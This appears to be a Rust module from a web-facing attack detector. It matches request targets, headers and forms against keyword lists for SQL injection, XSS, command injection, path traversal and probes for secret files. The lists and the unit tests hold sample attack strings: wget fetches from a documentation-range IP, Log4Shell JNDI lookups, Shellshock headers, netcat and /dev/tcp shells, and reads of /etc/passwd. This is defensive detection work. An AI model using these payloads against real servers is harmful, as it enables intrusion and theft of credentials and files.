//! Attacks that show in a request target, a header or a form. Every rule is in a list below: what is not there is not
//! found.
//!
//! The target is looked at as it is, and, if anything in it is encoded, once more after it was decoded twice and SQL
//! comments and runs of blanks became one space. The patterns are chosen so that prose in a search field seldom
//! matches: keywords count in combinations, and with the punctuation around them.

use std::sync::LazyLock;

use super::matcher::Matcher;
use super::message::percent_decode;

/// What a URL or a header tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// SQL injection.
    Sql,
    /// Cross-site scripting.
    Xss,
    /// Commands or code for the server to run.
    Command,
    /// A path out of the served tree.
    Traversal,
}

const SQL: &[&str] = &[
    "union select",
    "union all select",
    "union distinct select",
    "union(select",
    "select(0)from",
    "' or '",
    "' or 1",
    "\" or \"",
    "\" or 1",
    "' and '",
    "' and 1",
    "\" and 1",
    " or 1=1",
    " and 1=1",
    " and 1=2",
    ") or (",
    "'--",
    "' --",
    "';--",
    "'#",
    "; drop table",
    ";drop table",
    "; shutdown",
    "information_schema.",
    "sysobjects",
    "pg_sleep(",
    "benchmark(",
    "waitfor delay",
    "sleep(5)",
    "sleep(10)",
    "and sleep(",
    "or sleep(",
    "xp_cmdshell",
    "extractvalue(",
    "updatexml(",
    "load_file(",
    "into outfile",
    "into dumpfile",
    "group_concat(",
    "concat(0x",
    "char(0x",
    "' having ",
    "' group by ",
    "' order by ",
    "' union ",
    ") union ",
    "(select ",
    "0x3a,",
];

const XSS: &[&str] = &[
    "<script",
    "</script",
    "javascript:alert",
    "javascript:eval",
    "javascript:document",
    "document.cookie",
    "<svg/onload",
    "<svg onload",
    "<img src=x",
    "onerror=",
    "onload=alert",
    "onload=eval",
    "onmouseover=",
    "onfocus=alert",
    "<iframe",
    "string.fromcharcode(",
    "<body onload",
    "alert(document",
    "alert(1)",
    "prompt(1)",
    "confirm(1)",
    "vbscript:msgbox",
];

const COMMAND: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/cat",
    "/bin/id",
    "/bin/ls",
    "cmd.exe",
    "powershell",
    "wget http",
    "curl http",
    ";wget",
    ";curl",
    "; wget",
    "; curl",
    "|wget",
    "|curl",
    ";cat /",
    "; cat /",
    "|cat /",
    "| cat /",
    "cat /etc/",
    "cat+/etc/",
    ";id;",
    "|id",
    ";ls ",
    ";uname",
    "; uname",
    "|uname",
    "$(id",
    "$(wget",
    "$(curl",
    "`id`",
    "`wget",
    "`curl",
    "`uname",
    "&&wget",
    "&& wget",
    "&&curl",
    "chmod 777",
    "chmod +x",
    ";nc ",
    "|nc ",
    "; nc ",
    "/dev/tcp/",
    "phpinfo(",
    "system(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "eval(",
    "assert(",
    "base64_decode(",
    "call_user_func",
    "invokefunction",
    "auto_prepend_file",
    "allow_url_include",
    "php://input",
    "php://filter",
    "expect://",
    "data://text",
    "${jndi:",
    "${${",
    "class.module.classloader",
    "#_memberaccess",
    "java.lang.runtime",
    "getruntime()",
    "processbuilder",
    "freemarker.template",
    "{{7*7}}",
    "__import__(",
    "os.system",
    "() {",
];

const TRAVERSAL: &[&str] = &[
    "../../",
    "..\\..\\",
    "/..%c0%af",
    "..%c0%af",
    "..%c1%1c",
    "..%255c",
    "../winnt/",
    "..\\winnt\\",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/",
    "boot.ini",
    "win.ini",
    "/windows/system32/",
    "file:///",
    "web-inf/web.xml",
    "/.ssh/id_",
    "/..;/",
];

/// Files that nobody links to: who asks for them, probes.
const PROBED: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/entries",
    "/.aws/",
    "/.ssh/",
    "/.htpasswd",
    "/.htaccess",
    "/wp-config.php",
    "/phpunit/",
    "/vendor/phpunit",
    "/.ds_store",
    "/server-status",
    "/boaform/",
    "/gponform/",
    "/hnap1",
    "/setup.cgi",
    "/manager/html",
    "/actuator/env",
    "/actuator/gateway",
    "/.vscode/",
    "/config.json.bak",
    "/backup.sql",
    "/dump.sql",
    "/phpmyadmin/scripts",
    "/cgi-bin/luci/;stok=",
    "/solr/admin/",
    "/_ignition/execute-solution",
    "/debug/pprof",
    "/owa/auth/x.js",
    "/autodiscover.json?@",
];

/// Decoded twice, lower case, blanks and SQL comments as one space.
fn normalise(text: &[u8]) -> Vec<u8> {
    let decoded = percent_decode(&percent_decode(text, true), true);
    let mut out = Vec::with_capacity(decoded.len());
    let mut rest = decoded.as_slice();
    while let Some((b, after)) = rest.split_first() {
        if let Some(comment) = rest.strip_prefix(b"/*") {
            let end = comment.windows(2).position(|w| w == b"*/").map_or(comment.len(), |at| at + 2);
            rest = &comment[end..];
            if out.last() != Some(&b' ') {
                out.push(b' ');
            }
            continue;
        }
        match b {
            b' ' | b'\t' | b'\r' | b'\n' | 0x0b | 0x0c | 0xa0 => {
                if out.last() != Some(&b' ') {
                    out.push(b' ');
                }
            }
            _ => out.push(b.to_ascii_lowercase()),
        }
        rest = after;
    }
    out
}

/// In the order in which they count if several match.
static ATTACKS: LazyLock<Matcher> = LazyLock::new(|| Matcher::new(&[COMMAND, SQL, XSS, TRAVERSAL]));
static PROBES: LazyLock<Matcher> = LazyLock::new(|| Matcher::new(&[PROBED]));

/// The attack that a request target shows, and the pattern that was found.
pub fn attack(target: &[u8]) -> Option<(Attack, &'static str)> {
    let encoded = target.iter().any(|b| matches!(b, b'%' | b'+')) || target.windows(2).any(|w| w == b"/*");
    let found = ATTACKS.find(target);
    let (pattern, rank) = if encoded { ATTACKS.find(&normalise(target)).or(found)? } else { found? };
    Some(([Attack::Command, Attack::Sql, Attack::Xss, Attack::Traversal][rank], pattern))
}

/// The file that a request probes for.
pub fn probed(target: &[u8]) -> Option<&'static str> {
    PROBES.find(target).map(|(pattern, _)| pattern)
}

static LOOKUPS: LazyLock<Matcher> =
    LazyLock::new(|| Matcher::new(&[&["${jndi:", "${${", "${lower:", "${upper:", "${env:", "${::-"]]));

/// What a header's value tries: Log4Shell's look-up (CVE-2021-44228) and its disguises, Shellshock (CVE-2014-6271).
pub fn header_attack(value: &[u8]) -> Option<&'static str> {
    if value.starts_with(b"() {") || value.starts_with(b"(){") {
        return Some("() {");
    }
    let at = value.iter().position(|b| *b == b'$')?;
    LOOKUPS.find(&value[at..]).map(|(pattern, _)| pattern)
}

/// The same in the first bytes of a form.
pub fn form_attack(form: &[u8]) -> Option<&'static str> {
    if !form.iter().any(|b| matches!(b, b'$' | b'%')) {
        return None;
    }
    LOOKUPS.find(&percent_decode(form, true)).map(|(pattern, _)| pattern)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(target: &str) -> Option<Attack> {
        attack(target.as_bytes()).map(|(attack, _)| attack)
    }

    #[test]
    fn attacks() {
        for target in [
            "/item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users",
            "/item?id=1+union/**/select+1,2",
            "/login?u=admin'--&p=x",
            "/a?id=1%27%20or%20%271%27=%271",
            "/a?id=1%2527%20OR%201=1",
            "/a?id=1;DROP%20TABLE%20x",
            "/a?q=1)%20and%20sleep(9)",
        ] {
            assert_eq!(of(target), Some(Attack::Sql), "{target}");
        }
        for target in [
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/?q=\"><img src=x onerror=y>",
            "/?u=javascript:alert(2)",
            "/?n=<ScRiPt>",
        ] {
            assert_eq!(of(target), Some(Attack::Xss), "{target}");
        }
        for target in [
            "/cgi?ip=1;wget%20http://192.0.2.1/x",
            "/shell?cat%20/etc/passwd",
            "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array",
            "/?x=${jndi:ldap://192.0.2.1/a}",
            "/?x=%24%7Bjndi%3Adns%3A%2F%2Fa%7D",
            "/a?x=$(id)",
            "/?a=`id`",
            "/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir",
        ] {
            assert_eq!(of(target), Some(Attack::Command), "{target}");
        }
        for target in [
            "/../../../etc/shadow",
            "/d?f=..%2F..%2F..%2Fsecret",
            "/d?f=%252e%252e%252f%252e%252e%252fx",
            "/etc/passwd",
            "/x?f=..\\..\\boot.ini",
        ] {
            assert_eq!(of(target), Some(Attack::Traversal), "{target}");
        }
    }

    #[test]
    fn ordinary_urls_are_none() {
        for target in [
            "/",
            "/search?q=select+a+union+representative&lang=en",
            "/wiki/Rust_(programming_language)",
            "/a/../b.css",
            "/q?text=cats%20or%20dogs",
            "/img?size=(100,200)",
            "/q?q=it's%20or%20its",
            "/e?u=http%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De",
            "/track?json=%7B%22a%22%3A%5B1%2C2%5D%7D",
            "/scripts/app.js?v=1.2.3",
            "/order?by=date&from=2020",
            "/o'reilly/books",
            "/p;jsessionid=AB12",
            "/dir?cmd=list&sort=on",
            "/jquery.onload.js",
            "/bin/download?x=1",
            "/drop/table/5",
            "/w?t=Rock%20%26%20Roll%20(Live)",
            "/doc?ref=C%2B%2B",
        ] {
            assert_eq!(attack(target.as_bytes()), None, "{target}");
        }
    }

    #[test]
    fn probing() {
        assert_eq!(probed(b"/.env"), Some("/.env"));
        assert_eq!(probed(b"/lib/phpunit/x.php"), Some("/phpunit/"));
        assert_eq!(probed(b"/a/environment.css"), None);
        assert_eq!(header_attack(b"${jndi:ldap://x}"), Some("${jndi:"));
        assert_eq!(header_attack(b"x ${${lower:j}ndi"), Some("${${"));
        assert_eq!(header_attack(b"() { :; }; echo"), Some("() {"));
        assert_eq!(form_attack(b"u=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"), Some("${jndi:"));
        assert_eq!(form_attack(b"price=%2410"), None);
        assert_eq!(header_attack(b"price ${amount}"), None);
    }

    proptest::proptest! {
        #[test]
        fn nothing_panics(text in proptest::collection::vec(proptest::num::u8::ANY, 0..200)) {
            let _ = (attack(&text), probed(&text), header_attack(&text), form_attack(&text));
        }
    }
}
